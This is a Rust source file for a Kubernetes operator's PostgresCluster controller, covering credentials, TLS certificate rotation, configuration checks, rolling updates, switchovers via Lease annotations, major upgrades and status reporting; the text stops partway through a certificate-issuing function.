//! The PostgresCluster controller: validate → build ([`build`]) → apply → roll ([`rollout`])
//! → status. A raised major version holds the StatefulSet on the old one while [`upgrade`]
//! runs `pg_upgrade`; [`backup`] keeps the schedule, retention and archiving status;
//! [`standby`] reports a standby cluster (`spec.replica`) and keeps the operator's own writes
//! off its read-only primary.
//!
//! No finalizer: children carry owner references, so the garbage collector removes them.
//! The PersistentVolumeClaims follow the StatefulSet's `persistentVolumeClaimRetentionPolicy`
//! (`whenDeleted: Retain` unless `deletionPolicy: Delete`), and under `Retain` the superuser
//! Secret has no owner reference either, so kept data stays usable.

pub mod backup;
pub mod build;
pub mod check;
pub mod drain;
pub mod lost;
pub mod metrics;
pub mod monitoring;
mod moves;
pub mod pooler;
pub mod rollout;
pub mod standby;
mod status;
pub mod tls;
pub mod upgrade;

use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::Duration;

use k8s_openapi::api::apps::v1::StatefulSet;
use k8s_openapi::api::coordination::v1::Lease;
use k8s_openapi::api::core::v1::{Pod, Secret};
use kube::api::{Api, ListParams, Patch, PatchParams};
use kube::runtime::controller::Action;
use kube::{Resource, ResourceExt};
use steward_core::Context;
use steward_core::apply::Children;
use steward_core::object::unless_gone;

use crate::crd::PostgresCluster;
use crate::ident::{self, Kind};
use crate::password::Password;
use crate::{Error, State};
use build::{Names, ROLE_LABEL, TEMPLATE_HASH_ANNOTATION};

/// Reconciles one PostgresCluster.
///
/// In four phases, each step observing what it needs, deciding (pure) and executing before the
/// next, because later steps build on what earlier ones applied: the prerequisites (the
/// credentials and the configuration), the [`instances`], what serves [`around`] them, and
/// [`conclude`]: the status computed from all of it and written once, its Events, and when to
/// look again.
///
/// # Errors
/// [`Error`] naming the step that failed.
pub async fn reconcile(
    cluster: Arc<PostgresCluster>,
    ctx: Arc<Context<State>>,
) -> Result<Action, Error> {
    if steward_core::finalizer::is_deleting(cluster.as_ref()) {
        // The garbage collector removes the children.
        return Ok(Action::await_change());
    }
    if let Err(invalid) = validate(&cluster) {
        return Err(refuse(&ctx, &cluster, invalid).await);
    }
    let ns = cluster
        .namespace()
        .ok_or_else(|| Error::InvalidSpec("PostgresCluster must be namespaced".into()))?;
    let names = Names::of(&cluster.name_any());
    let children = ctx.children(cluster.as_ref());
    let credentials = credentials(&ctx, &children, &cluster, &ns, &names).await?;
    let Some(config_hash) = configure(&ctx, &children, &cluster).await? else {
        // The new parameters are being checked.
        return Ok(Action::requeue(Duration::from_secs(2)));
    };
    let instances = instances(&ctx, &children, &cluster, &ns, &names, &config_hash).await?;
    let around = around(&ctx, &cluster, &ns, &instances, &credentials).await?;
    conclude(
        &ctx,
        &cluster,
        &names,
        instances,
        around,
        credentials.ca_phase_due,
    )
    .await
}

/// What the instance steps observed, decided and did, for the status.
struct Instances {
    seen: Seen,
    /// The major upgrade's decision.
    decided: upgrade::Decision,
    /// The spec the instances run: the cluster's, but what a major upgrade holds back.
    held: Arc<PostgresCluster>,
    roles: PrimaryRoles,
    /// Whether this reconcile changed the StatefulSet's pod template.
    template_changed: bool,
    moved: Moved,
}

/// The instances: observed once (the StatefulSet, the pods, the Lease), then the major
/// upgrade, the StatefulSet's apply, the role labels and the primary's moves, each deciding on
/// what the one before applied.
async fn instances(
    ctx: &Context<State>,
    children: &Children,
    cluster: &PostgresCluster,
    ns: &str,
    names: &Names,
    config_hash: &str,
) -> Result<Instances, Error> {
    let seen = Seen::observe(&ctx.client, ns, names).await?;
    let decided = major_upgrade(ctx, cluster, &seen, names, config_hash).await?;
    let held = Arc::new(upgrade::held(cluster, decided.hold.as_ref()));
    let template_changed =
        apply_statefulset(ctx, children, cluster, &held, &seen, config_hash).await?;
    let roles = PrimaryRoles::of(seen.lease.as_ref(), names);
    label_roles(&seen.pods_api, &seen.pods, roles.primary.as_deref()).await?;
    let update_revision = seen.update_revision(template_changed);
    let moved = move_primary(ctx, cluster, &held, &seen, &roles, names, update_revision).await?;
    Ok(Instances {
        seen,
        decided,
        held,
        roles,
        template_changed,
        moved,
    })
}

/// What serves around the instances, for the status.
struct Around {
    /// Continuous backup's report (`None`: not configured).
    backups: Option<backup::Reported>,
    queries: monitoring::Queries,
    pooled: pooler::Pooled,
}

/// Around the instances, each read and applied in its own step: continuous backup (the
/// schedule and retention), the metrics queries and the pooler.
async fn around(
    ctx: &Context<State>,
    cluster: &PostgresCluster,
    ns: &str,
    instances: &Instances,
    credentials: &Credentials,
) -> Result<Around, Error> {
    let primary = instances.roles.primary.as_deref();
    let primary_pod = primary.and_then(|p| instances.seen.pod(p));
    let previous_backup = cluster.status.as_ref().and_then(|s| s.backup.as_ref());
    let backups = backup::reconcile(&ctx.client, cluster, primary_pod, previous_backup).await?;
    let queries = monitoring::observe(&ctx.client, ns, cluster).await?;
    let ready_primary = primary.and_then(|p| instances.seen.ready_ip(p));
    let pooled = pooler::serve(ctx, cluster, ns, ready_primary, credentials).await?;
    Ok(Around {
        backups,
        queries,
        pooled,
    })
}

/// The status, computed in one place from all the reconcile observed and did, and written
/// once; then the Events it reports (only once the write went through), then the switchover
/// request it lets go (removing it changes the cluster's resourceVersion, which would void the
/// guarded status write); and when to reconcile again.
async fn conclude(
    ctx: &Context<State>,
    cluster: &PostgresCluster,
    names: &Names,
    instances: Instances,
    around: Around,
    ca_phase_due: Option<Duration>,
) -> Result<Action, Error> {
    let Instances {
        seen,
        decided,
        held,
        roles,
        template_changed,
        moved,
    } = instances;
    // A new primary since the status was written.
    let transition = status::transition(cluster, &roles, &names.lease);
    let scheduled = around.backups.as_ref().and_then(|b| b.requeue);
    let update_revision = seen.update_revision(template_changed);
    let status = status::compute(status::Inputs {
        cluster,
        observed: seen.observed(&held, &roles, names, update_revision),
        roles: &roles,
        asked_now: moved.asked_now,
        pods: &seen.pods,
        synchronous_replicas: held.spec.synchronous_replicas,
        backups: around.backups,
        upgrade: &decided,
        queries: &around.queries,
        pooled: &around.pooled,
    });
    let promoted = standby::promoted_event(cluster.status.as_ref(), &status);
    let written = ctx
        .apply_status(cluster, cluster.status.as_ref(), &status)
        .await?;
    if written {
        for event in [transition, promoted].into_iter().flatten() {
            ctx.recorder.emit(cluster, event).await;
        }
    }
    if moved.clear_request {
        clear_switchover_request(&ctx.client, cluster).await?;
    }
    let ready =
        steward_core::conditions::is_true(&status.conditions, steward_core::conditions::READY);
    let resync = ctx.data.options.resync_interval;
    Ok(Action::requeue(requeue_after(
        ready,
        resync,
        [scheduled, ca_phase_due],
    )))
}

/// When to reconcile again: after `resync` once the cluster is Ready, in 10 s while it is
/// not; sooner when something is `due` then (the next scheduled backup, the CA's rotation).
fn requeue_after(
    ready: bool,
    resync: Duration,
    due: impl IntoIterator<Item = Option<Duration>>,
) -> Duration {
    let requeue = if ready {
        resync
    } else {
        Duration::from_secs(10)
    };
    due.into_iter().flatten().fold(requeue, Duration::min)
}

/// What [`credentials`] made sure of.
pub struct Credentials {
    /// When the CA's rotation is next due.
    pub ca_phase_due: Option<Duration>,
    pub superuser: Password,
    /// The CA bundle clients verify the servers with.
    pub ca_bundle: String,
    /// The pooler's auth role's password, when `spec.pooler` asks for one.
    pub pooler: Option<Password>,
}

/// The Secrets (the object stores' credentials checked, the passwords, TLS) and the instance
/// managers' (and poolers') identity and rights, before the pods that use them.
async fn credentials(
    ctx: &Context<State>,
    children: &Children,
    cluster: &PostgresCluster,
    ns: &str,
    names: &Names,
) -> Result<Credentials, Error> {
    let cached = &ctx.data.children;
    let secrets: Api<Secret> = Api::namespaced(ctx.client.clone(), ns);
    // The object stores' credentials exist before a pod needs them (else it would wait in
    // CreateContainerConfigError with nothing on the cluster saying why).
    if let Err(missing) = check_store_credentials(&secrets, cluster).await {
        return Err(refuse(ctx, cluster, missing).await);
    }
    // Passwords are generated once and never regenerated.
    let password = existing_password(&secrets, cluster, &names.superuser_secret).await?;
    let (ca, ca_phase_due) = ensure_tls(ctx, children, &secrets, cluster, ns).await?;
    let secret = build::superuser_secret(cluster, &password, &ca);
    if build::superuser_secret_owned(cluster) {
        children.ensure_cached(&cached.secrets, secret).await?;
    } else {
        children
            .clone()
            .without_owner_reference()
            .ensure_cached(&cached.secrets, secret)
            .await?;
    }
    let replication = existing_password(&secrets, cluster, &names.replication_secret).await?;
    children
        .ensure_cached(
            &cached.secrets,
            build::replication_secret(cluster, &replication),
        )
        .await?;
    children
        .ensure_cached(
            &cached.service_accounts,
            build::instance_service_account(cluster),
        )
        .await?;
    children
        .ensure_cached(&cached.roles, build::instance_role(cluster))
        .await?;
    children
        .ensure_cached(&cached.role_bindings, build::instance_role_binding(cluster))
        .await?;
    let pooler = pooler::apply(ctx, children, &secrets, cluster).await?;
    Ok(Credentials {
        ca_phase_due,
        superuser: password,
        ca_bundle: ca,
        pooler,
    })
}

/// The configuration (PostgreSQL checks new parameters before any instance may load them),
/// the Services and the disruption budgets. Returns the configuration's hash, or `None` while
/// the check runs.
///
/// # Errors
/// [`Error::InvalidParameters`] (after the status says it) when PostgreSQL refused them.
async fn configure(
    ctx: &Context<State>,
    children: &Children,
    cluster: &PostgresCluster,
) -> Result<Option<String>, Error> {
    let cached = &ctx.data.children;
    let config = build::config_map(cluster);
    let config_hash = build::config_hash(&config);
    let checked = if ctx.data.options.check_parameters {
        let target = build::statefulset(cluster, &config_hash, &ctx.data.options.instance_image);
        check::check(&ctx.client, cluster, &config, &config_hash, &target).await?
    } else {
        check::Checked::Unneeded
    };
    match &checked {
        check::Checked::Unneeded | check::Checked::Passed => {}
        check::Checked::Running => return Ok(None),
        check::Checked::Refused(why) => {
            let invalid = Error::InvalidParameters(format!(
                "{why}; nothing was rolled out: the instances keep the last valid configuration"
            ));
            return Err(refuse(ctx, cluster, invalid).await);
        }
    }
    children.ensure_cached(&cached.config_maps, config).await?;
    if checked == check::Checked::Passed {
        check::clean_up(&ctx.client, cluster).await?;
    }
    for service in [
        build::headless_service(cluster),
        build::rw_service(cluster),
        build::ro_service(cluster),
    ] {
        children.ensure_cached(&cached.services, service).await?;
    }
    // The replicas' budget first: it no longer covers the primary, which the second one does
    // (a pod under two budgets cannot be evicted at all).
    children
        .ensure_cached(&cached.pdbs, build::pod_disruption_budget(cluster))
        .await?;
    children
        .ensure_cached(&cached.pdbs, build::primary_disruption_budget(cluster))
        .await?;
    Ok(Some(config_hash))
}

/// What a reconcile reads of the running cluster: its StatefulSet, pods and Lease.
struct Seen {
    statefulset: Option<StatefulSet>,
    pods_api: Api<Pod>,
    pods: Vec<Pod>,
    views: Vec<rollout::PodView>,
    leases: Api<Lease>,
    /// The primary is the Lease's holder (the instance managers elect it); before any Lease
    /// exists, the first instance, which creates it.
    lease: Option<Lease>,
}

impl Seen {
    async fn observe(client: &kube::Client, ns: &str, names: &Names) -> Result<Self, Error> {
        let statefulsets: Api<StatefulSet> = Api::namespaced(client.clone(), ns);
        let statefulset = statefulsets
            .get_opt(&names.statefulset)
            .await
            .map_err(|source| Error::Read {
                what: format!("StatefulSet {}", names.statefulset),
                source,
            })?;
        let pods_api: Api<Pod> = Api::namespaced(client.clone(), ns);
        let pods = pods_api
            .list(&ListParams::default().labels(&format!(
                "{}={}",
                build::CLUSTER_LABEL,
                names.statefulset
            )))
            .await
            .map_err(|source| Error::Read {
                what: "the cluster's pods".into(),
                source,
            })?
            .items;
        let views = pods
            .iter()
            .filter_map(|p| rollout::PodView::of(p, &names.statefulset))
            .collect();
        let leases: Api<Lease> = Api::namespaced(client.clone(), ns);
        let lease = leases
            .get_opt(&names.lease)
            .await
            .map_err(|source| Error::Read {
                what: format!("Lease {}", names.lease),
                source,
            })?;
        Ok(Self {
            statefulset,
            pods_api,
            pods,
            views,
            leases,
            lease,
        })
    }

    /// The pod named `name`, if listed.
    fn pod(&self, name: &str) -> Option<&Pod> {
        self.pods.iter().find(|pod| pod.name_any() == name)
    }

    /// The IP of the pod named `name` while it is ready (where the pooler sends clients).
    fn ready_ip(&self, name: &str) -> Option<&str> {
        self.pod(name)
            .filter(|_| self.views.iter().any(|v| v.name == name && v.ready))
            .and_then(|p| p.status.as_ref()?.pod_ip.as_deref())
    }

    /// The StatefulSet's update revision, the one the rollout brings the pods to. `None` when
    /// this reconcile changed the pod template (the revision as read is the old template's)
    /// or while the StatefulSet controller has not observed the applied spec.
    fn update_revision(&self, template_changed: bool) -> Option<&str> {
        if template_changed {
            return None;
        }
        self.statefulset.as_ref().and_then(rollout::update_revision)
    }

    /// The instances and the rollout as the status reports them: `held`'s (the cluster as
    /// applied, its spec held on the old major during an upgrade, its metadata the cluster's)
    /// against the pods as listed.
    fn observed<'a>(
        &'a self,
        held: &PostgresCluster,
        roles: &'a PrimaryRoles,
        names: &Names,
        update_revision: Option<&'a str>,
    ) -> rollout::Observed<'a> {
        rollout::Observed {
            generation: held.meta().generation,
            instances: held.spec.instances,
            target_version: held.spec.version,
            update_revision,
            pods: &self.views,
            primary: roles.primary.as_deref(),
            superuser_secret: names.superuser_secret.clone(),
        }
    }
}

/// A raised major: the StatefulSet held on the old one while the upgrade runs (see
/// [`upgrade`]); its Event and its switchover to the instance it starts on.
async fn major_upgrade(
    ctx: &Context<State>,
    cluster: &PostgresCluster,
    seen: &Seen,
    names: &Names,
    config_hash: &str,
) -> Result<upgrade::Decision, Error> {
    let last_primary = seen.lease.as_ref().and_then(|l| {
        l.annotations()
            .get(steward_database_api::contract::LAST_PRIMARY_ANNOTATION)
            .filter(|v| !v.is_empty())
            .cloned()
            .or_else(|| l.spec.as_ref()?.holder_identity.clone())
            .filter(|v| !v.is_empty())
    });
    let upgrade::Observed {
        status: previous,
        job,
        backup,
    } = upgrade::observe(&ctx.client, cluster).await?;
    let running_image = seen.statefulset.as_ref().and_then(upgrade::running_image);
    let inputs = upgrade::Inputs {
        spec_version: cluster.spec.version,
        spec_instances: cluster.spec.instances,
        generation: cluster.meta().generation,
        current_version: previous.current_version,
        previous: previous.major_upgrade.as_ref(),
        primary: previous.primary.as_deref(),
        last_primary: last_primary.as_deref(),
        running_image: running_image.as_deref(),
        pods: seen.views.len(),
        first_ready: seen
            .views
            .iter()
            .any(|v| v.ordinal == 0 && v.ready && !v.deleting),
        backup_configured: cluster.spec.backup.is_some(),
        backup,
        job,
        now: k8s_openapi::jiff::Timestamp::now().to_string(),
    };
    let decided = upgrade::plan(&cluster.name_any(), &inputs);
    let instance_image = &ctx.data.options.instance_image;
    let upgrade_job = |u: &_| {
        let target = build::statefulset(cluster, config_hash, instance_image);
        upgrade::job(cluster, &target, u)
    };
    let lease = (&seen.leases, names.lease.as_str());
    upgrade::execute(ctx, cluster, &decided, upgrade_job, lease).await?;
    Ok(decided)
}

/// Applies the StatefulSet of `held` (`OnDelete`: the rollout replaces pods one at a time);
/// returns whether its pod template changed (said by an Event).
async fn apply_statefulset(
    ctx: &Context<State>,
    children: &Children,
    cluster: &PostgresCluster,
    held: &PostgresCluster,
    seen: &Seen,
    config_hash: &str,
) -> Result<bool, Error> {
    let mut desired = build::statefulset(held, config_hash, &ctx.data.options.instance_image);
    let template_hash = build::template_hash(&desired);
    let template_changed = seen
        .statefulset
        .as_ref()
        .is_some_and(|s| s.annotations().get(TEMPLATE_HASH_ANNOTATION) != Some(&template_hash));
    desired
        .annotations_mut()
        .insert(TEMPLATE_HASH_ANNOTATION.into(), template_hash);
    children
        .ensure_cached(&ctx.data.children.statefulsets, desired)
        .await?;
    if template_changed {
        ctx.recorder
            .normal(cluster, "RollingUpdate", "Update", "pod template changed; replacing the replicas one at a time, then switching over to an updated replica, then the old primary")
            .await;
    }
    Ok(template_changed)
}

/// What [`move_primary`] did that the status and the end of the reconcile need.
struct Moved {
    /// The switchover this reconcile named on the Lease (the Lease as read does not say so).
    asked_now: Option<String>,
    /// The requested switchover is done: the request goes after the status write (removing it
    /// changes the cluster's resourceVersion, which would void that guarded write).
    clear_request: bool,
}

/// Observes what bears on the primary and the pods (the nodes, the unscheduled instances'
/// volumes, the rolling update's next step), decides the moves ([`moves::decide`]) and
/// executes them.
async fn move_primary(
    ctx: &Context<State>,
    cluster: &PostgresCluster,
    held: &PostgresCluster,
    seen: &Seen,
    roles: &PrimaryRoles,
    names: &Names,
    update_revision: Option<&str>,
) -> Result<Moved, Error> {
    let client = &ctx.client;
    let ns = cluster.namespace().unwrap_or_default();
    // A switchover asked for on the cluster.
    let requested = cluster
        .annotations()
        .get(SWITCHOVER_ANNOTATION)
        .filter(|to| !to.is_empty())
        .cloned();
    let node_of: BTreeMap<String, String> = seen
        .pods
        .iter()
        .filter_map(|p| Some((p.name_any(), p.spec.as_ref()?.node_name.clone()?)))
        .collect();
    // Instances that cannot be scheduled: their volumes' nodes, and whether those are gone.
    let (unscheduled, mut watched) = lost::observe(client, &ns, &seen.pods).await?;
    let primary_node = roles.primary.as_ref().and_then(|p| node_of.get(p));
    if held.spec.instances > 1
        && let Some(node) = primary_node
    {
        watched.insert(node.clone());
    }
    ctx.data.watched_nodes.record(cluster, watched);
    // A drain cordons the primary's node first: read only when a switchover could follow (a
    // single instance has nothing to switch to).
    let cordoned = if held.spec.instances > 1 && requested.is_none() && roles.switching_to.is_none()
    {
        cordoned_nodes(client, primary_node, &node_of).await?
    } else {
        std::collections::BTreeSet::new()
    };
    let step = update_revision
        .filter(|_| requested.is_none())
        .map(|revision| {
            rollout::next_step(
                held.spec.instances,
                &seen.views,
                revision,
                rollout::Roles {
                    primary: roles.primary.as_deref(),
                    elected: seen.lease.is_some(),
                    switching_to: roles.switching_to.as_deref(),
                },
            )
        });
    let moves = moves::decide(&moves::Facts {
        cluster,
        instances: held.spec.instances,
        roles,
        views: &seen.views,
        requested: requested.as_deref(),
        node_of: &node_of,
        cordoned: &cordoned,
        unscheduled: &unscheduled,
        rollout: step,
    });
    if let Some(target) = &moves.clear_refusal {
        clear_refusal(&seen.leases, &names.lease, target).await?;
    }
    for to in &moves.ask {
        request_switchover(&seen.leases, &names.lease, to).await?;
    }
    if let Some(pod) = moves.delete_pod.clone() {
        unless_gone(seen.pods_api.delete(&pod, &Default::default()).await)
            .map_err(|source| Error::ReplacePod { pod, source })?;
    }
    if let Some(lost) = moves
        .replace
        .as_ref()
        .and_then(|pod| unscheduled.iter().find(|u| u.pod == *pod))
    {
        lost::replace(client, &ns, lost).await?;
    }
    for event in moves.events {
        ctx.recorder.emit(cluster, event).await;
    }
    Ok(Moved {
        asked_now: moves.ask.last().cloned(),
        clear_request: moves.clear_request,
    })
}

/// Says why nothing was changed (Ready false, the error's reason and message) and returns the
/// error for the runner (an Event, the retry).
async fn refuse(ctx: &Context<State>, cluster: &PostgresCluster, error: Error) -> Error {
    let mut status = cluster.status.clone().unwrap_or_default();
    steward_core::conditions::failed(&mut status.conditions, &error, cluster.meta().generation);
    status.observed_generation = cluster.meta().generation;
    match ctx
        .apply_status(cluster, cluster.status.as_ref(), &status)
        .await
    {
        Ok(_) => error,
        Err(e) => e.into(),
    }
}

/// The Secrets named by the object stores of `spec.backup`, `spec.bootstrap.recovery` and
/// `spec.replica.source` exist with both keys.
///
/// # Errors
/// [`Error::MissingReference`] naming the field, the Secret and the key.
async fn check_store_credentials(
    secrets: &Api<Secret>,
    cluster: &PostgresCluster,
) -> Result<(), Error> {
    for (field, store) in object_stores(&cluster.spec) {
        let Some(store) = store else { continue };
        let name = &store.credentials_secret;
        let secret = secrets.get_opt(name).await.map_err(|source| Error::Read {
            what: format!("Secret {name}"),
            source,
        })?;
        let Some(secret) = secret else {
            return Err(Error::MissingReference(format!(
                "{field}.credentialsSecret: Secret {name} does not exist"
            )));
        };
        let has = |key: &str| {
            secret.data.as_ref().is_some_and(|d| d.contains_key(key))
                || secret
                    .string_data
                    .as_ref()
                    .is_some_and(|d| d.contains_key(key))
        };
        if let Some(key) = ["accessKeyId", "secretAccessKey"]
            .into_iter()
            .find(|k| !has(k))
        {
            return Err(Error::MissingReference(format!(
                "{field}.credentialsSecret: Secret {name} has no key {key}"
            )));
        }
    }
    Ok(())
}

/// The object stores `spec` names, each with its field: `spec.backup.objectStore`,
/// `spec.bootstrap.recovery.objectStore`, `spec.replica.source`.
fn object_stores(
    spec: &crate::crd::PostgresClusterSpec,
) -> [(&'static str, Option<&crate::crd::ObjectStore>); 3] {
    [
        (
            "spec.backup.objectStore",
            spec.backup.as_ref().map(|b| &b.object_store),
        ),
        (
            "spec.bootstrap.recovery.objectStore",
            spec.bootstrap.as_ref().map(|b| &b.recovery.object_store),
        ),
        (
            "spec.replica.source",
            spec.replica.as_ref().map(|r| &r.source),
        ),
    ]
}

pub use crate::crd::SWITCHOVER_ANNOTATION;

/// Who is primary, as the cluster's Lease says.
struct PrimaryRoles {
    /// The Lease's holder; before any Lease exists, the first instance (it creates it).
    /// `None` while the Lease is free (mid-failover).
    primary: Option<String>,
    /// The switchover target the Lease names.
    switching_to: Option<String>,
    /// A switchover the primary refused: its target and why.
    refused: Option<(String, String)>,
    /// The Lease's `leaseTransitions`.
    transitions: Option<i32>,
}

impl PrimaryRoles {
    /// A switchover the primary refused and that is not being asked again: its target and
    /// why.
    fn standing_refusal(&self) -> Option<&(String, String)> {
        self.refused
            .as_ref()
            .filter(|(target, _)| self.switching_to.as_deref() != Some(target.as_str()))
    }

    fn of(lease: Option<&Lease>, names: &Names) -> Self {
        match lease {
            None => Self {
                primary: Some(names.first_pod.clone()),
                switching_to: None,
                refused: None,
                transitions: None,
            },
            Some(lease) => Self {
                primary: lease
                    .spec
                    .as_ref()
                    .and_then(|s| s.holder_identity.clone())
                    .filter(|h| !h.is_empty()),
                switching_to: lease
                    .annotations()
                    .get(steward_database_api::contract::TARGET_ANNOTATION)
                    .filter(|t| !t.is_empty())
                    .cloned(),
                refused: lease
                    .annotations()
                    .get(steward_database_api::contract::SWITCHOVER_REFUSED_ANNOTATION)
                    .and_then(|r| r.split_once(": "))
                    .map(|(target, why)| (target.to_string(), why.to_string())),
                transitions: lease.spec.as_ref().and_then(|s| s.lease_transitions),
            },
        }
    }
}

/// Corrects the role labels to the primary (its instance manager moves them when it is
/// promoted; this fixes, say, a label edited by hand). Nothing while there is no primary.
async fn label_roles(
    pods_api: &Api<Pod>,
    pods: &[Pod],
    primary: Option<&str>,
) -> Result<(), Error> {
    let Some(primary) = primary else {
        return Ok(());
    };
    for pod in pods {
        let role = if pod.name_any() == primary {
            build::PRIMARY
        } else {
            build::REPLICA
        };
        if pod.labels().get(ROLE_LABEL).map(String::as_str) == Some(role)
            || pod.metadata.deletion_timestamp.is_some()
        {
            continue;
        }
        let patch = serde_json::json!({"metadata": {"labels": {ROLE_LABEL: role}}});
        let patched = pods_api
            .patch(
                &pod.name_any(),
                &PatchParams::default(),
                &Patch::Merge(&patch),
            )
            .await;
        unless_gone(patched).map_err(|source| Error::LabelPod {
            pod: pod.name_any(),
            source,
        })?;
    }
    Ok(())
}

/// The cordoned nodes among those of the cluster's pods, read only when the primary's node
/// (`primary_node`) is one: nothing else is needed otherwise.
async fn cordoned_nodes(
    client: &kube::Client,
    primary_node: Option<&String>,
    node_of: &BTreeMap<String, String>,
) -> Result<std::collections::BTreeSet<String>, Error> {
    let nodes: Api<k8s_openapi::api::core::v1::Node> = Api::all(client.clone());
    let unschedulable = |node: Option<k8s_openapi::api::core::v1::Node>| {
        node.and_then(|n| n.spec?.unschedulable).unwrap_or(false)
    };
    let read = |name: String| {
        let nodes = nodes.clone();
        async move {
            nodes.get_opt(&name).await.map_err(|source| Error::Read {
                what: format!("Node {name}"),
                source,
            })
        }
    };
    let mut cordoned = std::collections::BTreeSet::new();
    let Some(primary_node) = primary_node else {
        return Ok(cordoned);
    };
    if !unschedulable(read(primary_node.clone()).await?) {
        return Ok(cordoned);
    }
    cordoned.insert(primary_node.clone());
    let others: std::collections::BTreeSet<&String> =
        node_of.values().filter(|n| *n != primary_node).collect();
    for node in others {
        if unschedulable(read(node.clone()).await?) {
            cordoned.insert(node.clone());
        }
    }
    Ok(cordoned)
}

/// Names `to` as the switchover target on the cluster's Lease (and removes an earlier
/// refusal): the primary's instance manager hands over to it.
async fn request_switchover(leases: &Api<Lease>, lease: &str, to: &str) -> Result<(), Error> {
    use steward_database_api::contract::{SWITCHOVER_REFUSED_ANNOTATION, TARGET_ANNOTATION};
    let annotations =
        serde_json::json!({TARGET_ANNOTATION: to, SWITCHOVER_REFUSED_ANNOTATION: null});
    annotate_lease(leases, lease, to, annotations).await
}

/// Removes a reported refusal of the switchover to `target` from the cluster's Lease.
async fn clear_refusal(leases: &Api<Lease>, lease: &str, target: &str) -> Result<(), Error> {
    use steward_database_api::contract::SWITCHOVER_REFUSED_ANNOTATION;
    let annotations = serde_json::json!({SWITCHOVER_REFUSED_ANNOTATION: null});
    annotate_lease(leases, lease, target, annotations).await
}

/// Merges `annotations` into the cluster's Lease, for the switchover to `to`.
async fn annotate_lease(
    leases: &Api<Lease>,
    lease: &str,
    to: &str,
    annotations: serde_json::Value,
) -> Result<(), Error> {
    let patch = serde_json::json!({"metadata": {"annotations": annotations}});
    leases
        .patch(lease, &PatchParams::default(), &Patch::Merge(&patch))
        .await
        .map(drop)
        .map_err(|source| Error::Switchover {
            to: to.to_string(),
            source,
        })
}

/// Removes the switchover request from the cluster once it is done.
async fn clear_switchover_request(
    client: &kube::Client,
    cluster: &PostgresCluster,
) -> Result<(), Error> {
    let ns = cluster.namespace().unwrap_or_default();
    let api: Api<PostgresCluster> = Api::namespaced(client.clone(), &ns);
    let Some(done) = cluster.annotations().get(SWITCHOVER_ANNOTATION).cloned() else {
        return Ok(());
    };
    // Only the request this reconcile saw fulfilled: a new one written since (another
    // switchover asked for right after) stays. A blind removal dropped it.
    let path = format!(
        "/metadata/annotations/{}",
        SWITCHOVER_ANNOTATION.replace('~', "~0").replace('/', "~1")
    );
    let patch: json_patch::Patch = serde_json::from_value(serde_json::json!([
        {"op": "test", "path": path, "value": done},
        {"op": "remove", "path": path},
    ]))
    .map_err(|e| Error::InvalidSpec(format!("the switchover request's removal: {e}")))?;
    match api
        .patch(
            &cluster.name_any(),
            &PatchParams::default(),
            &Patch::<()>::Json(patch),
        )
        .await
    {
        Ok(_) => Ok(()),
        // The test failed (a newer request, or none left): nothing of ours to remove.
        Err(kube::Error::Api(s)) if s.is_invalid() => Ok(()),
        Err(source) => Err(Error::Switchover { to: done, source }),
    }
}

/// The cluster's CA (generated once, rotated on request or a year before it ends: see
/// [`tls::CaPhase`]) and its server certificate (renewed a month before it expires, when
/// the Service names change or when the CA that signs changes); returns what clients trust
/// (`ca.crt`: during a rotation, both CAs) and, during a rotation, when its next phase is due.
async fn ensure_tls(
    ctx: &Context<State>,
    children: &Children,
    secrets: &Api<Secret>,
    cluster: &PostgresCluster,
    ns: &str,
) -> Result<(String, Option<Duration>), Error> {
    let names = Names::of(&cluster.name_any());
    let read = |name: String| async move {
        let existing = secrets.get_opt(&name).await.map_err(|source| Error::Read {
            what: format!("Secret {name}"),
            source,
        })?;
        crate::ownership::ensure_ours(
            existing.as_ref(),
            cluster,
            Some((build::CLUSTER_LABEL, cluster.name_any().as_str())),
        )?;
        Ok::<_, Error>(existing)
    };
    let now = chrono::Utc::now();
    let today = now.date_naive();
    let certificate = |what: &str| {
        let what = what.to_string();
        move |e: rcgen::Error| Error::Certificate(format!("{what} failed: {e}"))
    };
    let stored = read(names.ca_secret.clone()).await?;
    let (authority, written) = match stored.as_ref().and_then(build::authority_of) {
        Some(a) => (a, false),
        None => {
            let ca = tls::new_ca(&cluster.name_any(), 0, today)
                .map_err(certificate("generating the cluster's CA"))?;
            (tls::Authority::first(ca, tls::ca_until(today), now), true)
        }
    };
    let requested = cluster
        .annotations()
        .get(crate::crd::ROTATE_CA_ANNOTATION)
        .map(String::as_str);
    let grace = ctx.data.options.ca_rotation_grace;
    let step = authority.due(requested, now, grace);
    let authority = authority
        .after(step, &cluster.name_any(), requested, now)
        .map_err(certificate("making the cluster's next CA"))?;
    // Written when made, when a phase changes, and once for a Secret from before rotations.
    let migrated = stored
        .as_ref()
        .is_some_and(|s| !s.annotations().contains_key(build::CA_PHASE_ANNOTATION));
    if written || migrated || step != tls::Rotation::Keep {
        children
            .apply(build::ca_secret(cluster, &authority))
            .await?;
    }
    if let Some(event) = tls::rotation_event(step, &authority, grace) {
        ctx.recorder.emit(cluster, event).await;
    }
    let bundle = authority.bundle();
    let server_names = tls::server_names(&cluster.name_any(), ns);
    let current = read(names.tls_secret.clone()).await?;
    certify(
        ctx,
        children,
        cluster,
        &authority,
        current.as_ref(),
        &names.tls_secret,
        &server_names,
        "the cluster's Services; the instances reload it",
    )
    .await?;
    if cluster.spec.pooler.is_some() {
        let pooler = pooler::Names::of(&cluster.name_any());
        let current = read(pooler.tls_secret.clone()).await?;
        let names = pooler::tls_names(&cluster.name_any(), ns);
        certify(
            ctx,
            children,
            cluster,
            &authority,
            current.as_ref(),
            &pooler.tls_secret,
            &names,
            "the pooler's Service; PgBouncer reloads it",
        )
        .await?;
    }
    let next_phase = (authority.phase != tls::CaPhase::Stable).then(|| {
        let elapsed = (now - authority.since).to_std().unwrap_or_default();
        grace.saturating_sub(elapsed) + Duration::from_secs(1)
    });
    Ok((bundle, next_phase))
}

/// Issues a server certificate of the cluster's CA for `names` into Secret `secret` (whose
/// current version is `current`) when the CA bundle changed, the names changed or its end is
/// near ([`tls::needs_renewal`]); says so in an Event naming `what` it serves.
#[allow(clippy::too_many_arguments)]
async fn certify(
    ctx: &Context<State>,
    children: &Children,
    cluster: &PostgresCluster,
    authority: &tls::Authority,
    current: Option<&Secret>,
    secret: &str,
    names: &[String],
    what: &str,
) -> Result<(), Error> {
    let bundle = authority.bundle();
    let today = chrono::Utc::now().date_naive();
    let annotation = |key: &str| {
        current
            .and_then(|s| s.annotations().get(key).cloned())
            .unwrap_or_default()
    };
